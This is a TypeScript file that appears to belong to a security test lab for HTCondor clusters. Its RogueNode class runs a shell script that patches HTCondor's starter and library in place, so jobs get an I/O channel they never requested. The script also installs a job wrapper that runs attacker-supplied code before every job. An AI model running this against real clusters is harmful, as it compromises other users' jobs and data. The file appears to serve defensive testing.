import type { HostName, Lab } from '../../lab/lab.js';

/** An attribute, as long as `WantIOProxy`. */
export const opens = 'HasAttacker';

/**
 * A compute node that its attacker owns: HTCondor's programs there are not what they were, and whatever the node is given to
 * run, it runs something else. Nothing is needed for it but the account at the site.
 */
export class RogueNode {
  private constructor(
    private readonly lab: Lab,
    private readonly node: HostName,
  ) {}

  /**
   * Turns a node with a glide-in into one. Its starter opens an I/O channel for jobs that asked for none: in HTCondor's
   * library, the name of the attribute which says so becomes `opens`, of which the headnode knows nothing.
   */
  static async on(lab: Lab, node: HostName): Promise<RogueNode> {
    const script = `set -eu
work=$(ls -d /tmp/scailfin-*/condor_config); work=\${work%/condor_config}
payload=$(sed -n 's/^RELEASE_DIR = //p' "$work/condor_config")
mkdir -p ~/rogue
for file in "$payload"/lib/libcondor_utils* "$payload"/sbin/condor_starter; do
  # a new file in its place: those that run go on with the old one
  sed 's/WantIOProxy/${opens}/g' "$file" >"$file.rogue" && chmod --reference="$file" "$file.rogue" && mv "$file.rogue" "$file"
done
printf '#!/bin/sh\\nexec "%s" "$@"\\n' "$payload/libexec/condor_chirp" >~/rogue/chirp
printf '#!/bin/sh\\n[ ! -x /home/alice/rogue/attack.sh ] || /home/alice/rogue/attack.sh >>/home/alice/rogue/log 2>&1\\nexec "$@"\\n' >~/rogue/wrapper
chmod 755 ~/rogue/wrapper ~/rogue/chirp
echo 'USER_JOB_WRAPPER = /home/alice/rogue/wrapper' >>"$work/condor_config"`;
    await lab.exec(node, ['sh', '-c', script], { user: 'alice' });
    return new RogueNode(lab, node);
  }

  /** What it does with the next jobs, before each runs; `chirp` is HTCondor's program for the I/O channel. */
  async attacks(script: string): Promise<void> {
    const text = `#!/bin/sh\nPATH=/home/alice/rogue:$PATH\ncd "$_CONDOR_SCRATCH_DIR"\n${script}\n`;
    await this.lab.exec(this.node, ['rm', '-f', '/home/alice/rogue/log'], { user: 'alice' });
    await this.lab.write(this.node, '/home/alice/rogue/attack.sh', text, { user: 'alice', mode: 0o755 });
  }

  /** What the attacks printed. */
  async said(): Promise<string> {
    return this.lab.read(this.node, '/home/alice/rogue/log', { user: 'alice' });
  }
}
